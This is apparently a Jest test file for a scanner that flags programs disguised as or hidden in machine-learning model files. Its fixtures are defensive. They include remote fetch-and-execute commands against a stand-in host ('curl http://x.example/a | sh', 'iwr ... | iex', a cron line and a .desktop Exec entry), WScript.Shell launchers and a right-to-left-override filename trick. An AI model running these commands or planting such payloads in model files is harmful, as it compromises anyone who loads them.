import { bytes, floats, zeros } from '../../../testing/bytes';
import { JAVA_CLASS, SHORTCUT, elfOf, machOOf, peOf, universalOf } from '../../../testing/native-builder';
import { proto } from '../../../testing/pickle-assembler';
import { run } from '../../../testing/scanning';
import { ggufOf, row, safetensorsOf } from '../../../testing/tensor-files-builder';
import { zipOf } from '../../../testing/zip-builder';

const found = (data: Uint8Array, name: string): string[] =>
  run(data, undefined, name).findings.map(({ severity, rule }) => `${severity} ${rule}`);
const inZip = (name: string, data: Uint8Array): Uint8Array => zipOf([{ name, data }]);

const NAMED = 'HIGH program-named-model';

test.each([
  ['elf', elfOf(2)],
  ['elf', elfOf(3)],
  ['elf', bytes('\x7fELF', zeros(60))],
  ['pe', peOf(0x22)],
  ['pe', bytes('MZ\x90\0', floats(40))],
  ['mach-o', machOOf(2)],
  ['mach-o', universalOf(6)],
  ['windows-shortcut', SHORTCUT],
  ['ape', bytes("MZqFpD='\n", zeros(100))],
  ['script', bytes('#!/bin/sh\nid\n')],
  ['script', bytes('@echo off\r\ncalc\r\n')],
  ['script', bytes('$x = New-Object Net.WebClient\n')],
  ['text', bytes('curl http://x.example/a | sh\n')],
  ['html', bytes('<html><script>new ActiveXObject("WScript.Shell")</script></html>')]
])('%s under the name of a model', (format, data) => {
  expect(run(data, undefined, 'model.pkl').format).toBe(format);
  expect(found(data, 'model.pkl')).toEqual([NAMED]);
  expect(found(data, 'pytorch_model')).toEqual([NAMED]);
  expect(found(inZip('weights/model.bin', data), 'a.zip')).toEqual([NAMED]);
});

test('code among bytes of no known format', () => {
  const odd = zeros(40).fill(0xf7);
  const code = bytes(odd, "\nimport os\nos.system('id')\n", odd);
  expect(found(code, 'model.engine')).toEqual(['MEDIUM program-in-model']);
  expect(found(code, 'shape_predictor.dat')).toEqual(['MEDIUM program-in-model']);
  expect(found(bytes(odd, 'powershell -c iwr http://x.example/p.ps1 | iex', odd), 'm.dnn')).toEqual([
    'MEDIUM program-in-model'
  ]);
  expect(found(code, 'table.tbl')).toEqual([]);
  expect(found(bytes(odd, 'os.execute("id")', odd), 'model.t7')).toEqual(['MEDIUM program-in-model']);
  expect(found(bytes(odd, 'Copyright (C) Example, all rights reserved', odd), 'model.engine')).toEqual([]);
});

test.each(['model.pkl.exe', 'model.safetensors.scr', 'model.pt ', 'gpt2\u202elkp.exe'])(
  '%j looks like a model',
  name => {
    expect(found(peOf(0x22), name)).toEqual([NAMED]);
  }
);

test.each([
  'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc"\n',
  "require('child_process').exec('id');\n",
  '# a comment\npowershell -nop -enc AAAA\n'
])('%j is a program', text => {
  expect(found(bytes(text), 'model.pkl')).toEqual([NAMED]);
});

test.each([
  ['a class', JAVA_CLASS, 'MEDIUM program-named-model'],
  ['WebAssembly', bytes('\0asm', [1, 0, 0, 0]), 'MEDIUM program-named-model'],
  ['compiled Lua', bytes('\x1bLua\x53\0', zeros(20)), 'MEDIUM program-named-model'],
  ['Python', bytes('import numpy\n'), 'LOW program-named-model'],
  ['Python that starts a program', bytes('import os\nos.system("id")\n'), 'MEDIUM program-named-model']
])('%s under the name of a model is less', (_, data, finding) => {
  expect(found(data, 'model.pkl')).toEqual([finding]);
});

test.each([
  ['libx.so', elfOf(3)],
  ['tool', elfOf(2)],
  ['tool.exe', peOf(0x22)],
  ['tool.com', bytes("MZqFpD='\n", zeros(100))],
  ['x.dll', peOf(0x2022)],
  ['x.dylib', universalOf(6)],
  ['A.class', JAVA_CLASS],
  ['a.lnk', SHORTCUT],
  ['libx.a', bytes('!<arch>\n', zeros(60))],
  ['run.sh', bytes('#!/bin/sh\ncurl http://x.example/a | sh\n')],
  ['train.py', bytes('import os\n')]
])('%s by its own name is no model', (name, data) => {
  expect(run(data, undefined, name)).toMatchObject({ verdict: 'not-a-model', findings: [] });
});

test.each([
  ['bin/tool', elfOf(2), ['HIGH program-in-model']],
  ['x.so', elfOf(3), ['MEDIUM program-in-model']],
  ['x.dll', peOf(0x2022), ['MEDIUM program-in-model']],
  ['numpy/core/x.cpython-311-x86_64-linux-gnu.so', elfOf(3), ['LOW program-in-model']],
  ['readme.lnk', SHORTCUT, ['HIGH program-in-model']],
  ['run.sh', bytes('#!/bin/sh\nid\n'), ['LOW program-in-model']],
  ['run.sh', bytes('#!/bin/sh\ncurl http://x.example/a | sh\n'), ['HIGH script-command']],
  ['a/B.class', JAVA_CLASS, []],
  ['x.js', bytes('var a = 1;\n'), []]
])('%s in an archive', (name, data, findings) => {
  expect(found(inZip(name, data), 'a.zip')).toEqual(findings);
});

test.each([
  ['/opt/code\n', []],
  ['import site_tool\n', []],
  ["import os; exec('import os')\n", ['MEDIUM program-named-model']],
  ["import os; enabled and __import__('_distutils_hack').add_shim(); \n", []],
  ['import os\nx = 1\nos.system("id")\n', ['MEDIUM program-named-model']]
])('a file of the search path of Python has an ending of models: %j', (text, findings) => {
  expect(found(bytes(text), 'tool.pth')).toEqual(findings);
});

test('an archive of software may hold programs, but none under the name of a model', () => {
  expect(found(inZip('torch/bin/protoc', elfOf(2)), 'torch-2.0-py3-none-any.whl')).toEqual([]);
  expect(found(inZip('torch/bin/model.pt', elfOf(2)), 'torch-2.0-py3-none-any.whl')).toEqual([NAMED]);
});

test('a program that unpacks itself is judged once, by its name', () => {
  const data = bytes(elfOf(2), inZip('data.txt', bytes('text')));
  expect(found(data, 'setup.run')).toEqual([]);
  expect(found(data, 'model.pt')).toEqual([NAMED]);
});

test('a program with a model is a finding, and the model is scanned', () => {
  const report = run(bytes("MZqFpD='\n", zeros(503), inZip('m.gguf', ggufOf({}))), undefined, 'm.com');
  expect(report.findings).toMatchObject([{ rule: 'program-with-model', severity: 'MEDIUM' }]);
  expect(report.coverage).toContainEqual(expect.objectContaining({ members: ['m.gguf'], status: 'scanned' }));
});

test('a program behind a model, and one among its metadata', () => {
  const base64 = Buffer.from(elfOf(2)).toString('base64');
  expect(found(bytes(proto(2, '}'), elfOf(2)), 'm.pkl')).toEqual(['MEDIUM program-in-model']);
  expect(found(safetensorsOf({ w: row(0, 8) }, bytes(floats(2), elfOf(2))), 'm.safetensors')).toEqual([
    'MEDIUM tensor-hidden-data',
    'MEDIUM program-in-model'
  ]);
  expect(found(safetensorsOf({ __metadata__: { x: base64 }, w: row(0, 8) }, floats(2)), 'm.safetensors')).toEqual([
    'HIGH program-in-model'
  ]);
});

test('a program among numbers, and in a file of no known format', () => {
  for (const before of [zeros(2 ** 20 + 64), bytes('engine of some kind ', zeros(40), 'x')]) {
    expect(found(bytes(before, elfOf(2), zeros(99)), 'm.engine')).toEqual(['MEDIUM program-in-model']);
    expect(found(bytes(before, elfOf(2), zeros(99)), 'disk.img')).toEqual([]);
  }
});

test('texts that are made to be slow are not', () => {
  const verdicts = [
    run(bytes('#a\n'.repeat(5000), 'import x\n(\n'), undefined, 'x.pth'),
    run(bytes('#!/bin/sh\n', 'curl '.repeat(3000), '\n'), undefined, 'model.pkl'),
    run(safetensorsOf({ __metadata__: { x: '<a '.repeat(6000) }, w: row(0, 8) }, floats(2)), undefined, 'm.safetensors')
  ].map(({ verdict }) => verdict);
  expect(verdicts).toEqual(['not-a-model', 'unsafe', 'clean']);
});

test('two letters make no program', () => {
  expect(run(bytes('MZ', floats(100)), undefined, 'weights.bin')).toMatchObject({ format: 'raw-tensor', findings: [] });
});

test('a program under the name of a document that comes with models', () => {
  for (const name of ['config.json', 'vocab.txt', 'model.dat', 'openvino.xml']) {
    expect(found(elfOf(2), name)).toEqual(['MEDIUM program-named-model']);
    expect(found(peOf(0x22), name)).toEqual(['MEDIUM program-named-model']);
  }
  expect(found(elfOf(2), 'tool')).toEqual([]);
});

test('classes of a virtual machine in an archive that has the name of a model', () => {
  const jar = zipOf([
    { name: 'META-INF/MANIFEST.MF', data: bytes('Main-Class: Evil\n') },
    { name: 'Evil.class', data: JAVA_CLASS }
  ]);
  expect(found(jar, 'model.pt')).toEqual(['MEDIUM program-in-model']);
  expect(found(jar, 'tool.jar')).toEqual([]);
  expect(found(jar, 'classes.zip')).toEqual([]);
});

test('a script in front of a model', () => {
  const archive = zipOf([{ name: 'a/data.pkl', data: proto(2, '}') }]);
  expect(found(bytes('#!/bin/sh\nid\nexit\n', archive), 'model.pt')).toEqual(['MEDIUM program-in-model']);
  expect(found(bytes('#!/usr/bin/env python3\n', archive), 'app.pyz')).toEqual([]);
  expect(found(bytes('#!/usr/bin/perl\nsystem("id");\n', zeros(40).fill(0xf7)), 'model.pt')).toEqual([
    'MEDIUM program-in-model'
  ]);
});

test.each([
  'Set s=CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n',
  'require("child_process").exec("id")\n',
  'os.execute("id")\n',
  '<script>new ActiveXObject("WScript.Shell").Run("calc")</script>',
  '* * * * * root curl http://x.example/y|sh\n'
])('a script behind a pickle: %j', script => {
  expect(found(bytes(proto(2, '}'), script), 'model.pkl')).toContain('MEDIUM program-in-model');
});

test.each([
  ['run.vbs', 'CreateObject("WScript.Shell").Run "calc"'],
  ['model.desktop', '[Desktop Entry]\nType=Application\nExec=/bin/sh -c "curl http://x.example/y|sh"\n'],
  ['open.hta', '<html><hta:application><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>']
])('%s in an archive, which a desktop starts when it is opened', (name, text) => {
  expect(found(inZip(name, bytes(text)), 'model.zip')).toEqual(['MEDIUM program-in-model']);
});
